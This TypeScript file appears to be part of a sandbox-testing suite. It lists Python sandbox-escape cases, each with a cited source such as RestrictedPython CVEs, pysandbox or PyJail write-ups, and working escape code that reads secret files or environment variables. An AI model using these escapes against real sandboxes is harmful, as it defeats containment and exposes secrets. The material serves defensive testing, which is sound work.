/** Holes of sandboxes within the language: guards that trust a type, a name or a syntax. */
import { onWalls } from './attack.ts';
import type { Attack } from './attack.ts';
import { jailbreak, OPEN_BY_BUILTINS } from './jailbreak.ts';

export const LANGUAGE_TYPES: readonly Attack[] = [
  ...jailbreak({
    title: 'a string whose methods lie passes the check of a guarded open',
    known: "zope.security and pysandbox's safe_open: subclasses of str",
    given: 'text=str, kind=type, guarded=lambda name: None if name.startswith("/") else open(name)',
    jailed: `
Liar = kind("Liar", (text,), {"startswith": lambda self, prefix: False})
found = guarded(Liar(path)).read()
`,
  }),
  ...jailbreak({
    title: 'a path that is another at its second reading passes the check of the first',
    known: 'races of check and use, by __fspath__',
    given:
      'kind=type, fspath=os.fspath, guarded=lambda name: None if os.fspath(name) == secret_path else open(name)',
    jailed: `
turns = ["/dev/null", path]
found = guarded(kind("Turning", (), {"__fspath__": lambda self: turns.pop(0)})()).read()
`,
  }),
  ...jailbreak({
    title: 'a read-only dictionary is an ordinary one to the methods of its base',
    known: 'pysandbox 1.0.2 and 1.0.3: dict methods and dict.__init__ on __builtins__',
    given:
      'guard=type("Guard", (dict,), {"__getitem__": lambda self, name: None})({"open": open}), kind=dict',
    jailed: `
found = kind.__getitem__(guard, "open")(path).read()
`,
  }),
  ...jailbreak({
    title: 'an object with a __getattribute__ of its own is still what object says it is',
    known: "pysandbox's proxies: object.__getattribute__ on a proxy",
    given:
      'base=object, proxy=type("Proxy", (), {"__init__": lambda self: self.__dict__.update(real=open), "__getattribute__": lambda self, name: object.__getattribute__(self, name) if name == "__dict__" else None})()',
    jailed: `
found = base.__getattribute__(proxy, "__dict__")["real"](path).read()
`,
  }),
  ...jailbreak({
    title: 'the class of an open file opens others',
    known: 'pysandbox: type(open(...)) and type(sys.stdout) are file objects to be called',
    given: 'stream=open("/dev/null")',
    jailed: `
found = stream.buffer.raw.__class__(path).read()
`,
  }),
  ...jailbreak({
    title: 'a field of str.format that fails hands its object over in the error',
    known: 'RestrictedPython, CVE-2024-47532: AttributeError.obj',
    given: 'helper=works, Missing=AttributeError',
    jailed: `
try:
    "{0.__globals__.nothing}".format(helper)
except Missing as error:
    builtins = error.obj["__builtins__"]${OPEN_BY_BUILTINS}`,
  }),
  ...jailbreak({
    title: 'string.Formatter looks attributes up and returns them',
    known: 'RestrictedPython, CVE-2023-41039: string.Formatter',
    given: 'formatter=__import__("string").Formatter(), helper=works',
    jailed: `
builtins = formatter.get_field("0.__globals__", (helper,), {})[0]["__builtins__"]${OPEN_BY_BUILTINS}`,
  }),
  ...jailbreak({
    title: 'a pattern of match reads attributes that no expression names',
    known: 'guards over the syntax tree that know Attribute but not MatchClass (PEP 634)',
    given: 'helper=works, base=object',
    jailed: `
match helper:
    case base(__globals__=names):
        builtins = names["__builtins__"]${OPEN_BY_BUILTINS}`,
  }),
  ...jailbreak({
    title: 'decorators call without parentheses',
    known: 'PyJail write-ups: decorators where calls are forbidden',
    given: 'run=open',
    jailed: `
@run
@(lambda _: path)
def stream():
    pass
found = [line for line in stream]
`,
  }),
  ...jailbreak({
    title: 'an index calls when a class says so',
    known: 'PyJail write-ups: __class_getitem__ and metaclasses with __getitem__',
    given: 'kind=type, run=open',
    jailed: `
found = [line for line in kind("K", (), {"__class_getitem__": run})[path]]
`,
  }),
  ...jailbreak({
    title: 'an except clause is an expression, and runs in the frame of the guard',
    known: 'pysandbox and PyJails: code in except clauses, which some checkers never visited',
    given: 'Division=ZeroDivisionError, run=open',
    jailed: `
try:
    1 / 0
except [Division, text := run(path).read()][0]:
    found = text
`,
  }),
  ...jailbreak({
    title: 'a function of the guard is given other code',
    known: 'code objects in pysandbox (HAVE_CODE); func_code of safelite.py',
    given: 'trusted=lambda name: abs(name)',
    jailed: `
trusted.__code__ = trusted.__code__.replace(co_names=("open",))
found = trusted(path).read()
`,
  }),
  ...onWalls(
    { kernel: 'python' },
    {
      title: 'str.format walks from a class to the environment',
      known: "Ronacher, 'Be careful with Python's new-style string format' (2016)",
      oracle: { kind: 'secret', in: 'environment' },
      code: `"{0.__init__.__globals__[sys].modules[os].environ}".format(os._wrap_close)`,
    },
  ),
  ...onWalls(
    { kernel: 'python' },
    {
      title: 'an audit hook that refuses to open files is made to agree',
      known: 'PEP 578: audit hooks are no sandbox; write-ups that replace the hook from within',
      oracle: { kind: 'secret', in: 'file' },
      code: `
import sys
def hook(event, arguments):
    if event == "open":
        raise PermissionError
sys.addaudithook(hook)
hook.__code__ = (lambda event, arguments: None).__code__
open(secret_path).read()`,
    },
  ),
];
